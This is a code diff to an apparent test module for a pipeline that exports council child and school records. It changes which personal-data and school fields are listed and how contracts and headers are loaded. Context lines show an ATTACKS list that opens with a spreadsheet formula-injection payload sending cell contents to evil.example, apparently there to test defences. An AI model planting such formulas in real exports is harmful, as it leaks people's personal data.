@@ -28,7 +28,8 @@ from warehouse import load
 NAMES = {"surname", "forename", "child_first_name", "child_last_name", "first_name", "last_name"}
 BIRTHDAYS = {"date_of_birth", "child_dob"}
 NUMBERS = {"upn", "former_upn", "child_upn", "uln"}
-OF_OTHERS = {"establishment_name", "named_urn", "named_placement_urn", "upn_unknown_reason"}  # of schools, and a code
+OF_OTHERS = {"establishment_name", "named_urn", "named_placement_urn", "named_dfe_number", "named_placement_dfe_number",
+             "upn_unknown_reason"}  # of schools, and a code  # fmt: skip
 
 ATTACKS = (
     '=HYPERLINK("http://evil.example/?"&A1,"{}")',
@@ -154,7 +155,10 @@ def words(text: str) -> set[str]:
 
 @cache
 def _contracts() -> list[Contract]:
-    return contracts.load_all(settings.load({}))
+    """Of the exports that the sample council has; the others are optional, and no file of theirs comes."""
+    every = contracts.load_all(settings.load({}))
+    assert all(each.is_optional for each in every if each.id not in layout.FEEDS)
+    return [each for each in every if each.id in layout.FEEDS]
 
 
 def _path(inbox: Path, each: Contract, as_at: date) -> Path:
@@ -166,7 +170,8 @@ def _read(inbox: Path, each: Contract, as_at: date) -> list[dict[str, str]]:
     """Rows by column of the contract."""
     path = _path(inbox, each, as_at)
     text = path.read_text(encoding=layout.dialect(each.id).encoding, errors="replace")
-    known = {normalise(header): column.name for column in each.columns for header in column.headers}
+    ours = layout.headers(each.id)
+    known = {normalise(header): one.name for one in each.columns if one.name in ours for header in one.headers}
     rows = csv.DictReader(io.StringIO(text, newline=""))
     return [
         {known[normalise(h)]: value or "" for h, value in row.items() if normalise(h or "") in known} for row in rows
